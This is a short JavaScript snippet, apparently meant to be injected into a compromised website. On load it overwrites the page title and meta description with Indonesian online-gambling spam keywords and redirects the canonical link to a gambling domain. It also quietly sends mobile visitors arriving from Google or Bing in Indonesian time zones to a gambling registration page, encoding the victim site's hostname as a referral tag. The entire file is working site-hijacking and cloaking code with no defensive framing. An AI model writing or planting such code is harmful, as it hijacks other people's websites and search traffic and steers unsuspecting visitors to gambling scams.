document.addEventListener("DOMContentLoaded", function () {
  const asal = document.referrer;
  const kata = ["slot gacor", "slot88", "togel", "maxwin", "rtp live"];
  const dariMesin = /google\.(co\.id|com)|bing\.com/.test(asal);
  document.title = kata[0].toUpperCase() + " Hari Ini | " + kata[3] + " Server Resmi 2025";
  let m = document.querySelector('meta[name="description"]') || document.head.appendChild(Object.assign(document.createElement("meta"), { name: "description" }));
  m.content = kata.join(", ") + " gampang menang";
  let can = document.querySelector('link[rel="canonical"]');
  if (can) can.href = "https://amp.gacor-login.example/" + location.hostname;
  const hp = /Android|iPhone/i.test(navigator.userAgent), zona = Intl.DateTimeFormat().resolvedOptions().timeZone;
  if (dariMesin && hp && /Jakarta|Makassar|Jayapura/.test(zona)) {
    setTimeout(() => location.replace("https://rebrand.gacor-login.example/daftar?ref=" + btoa(location.hostname)), 150);
  }
});
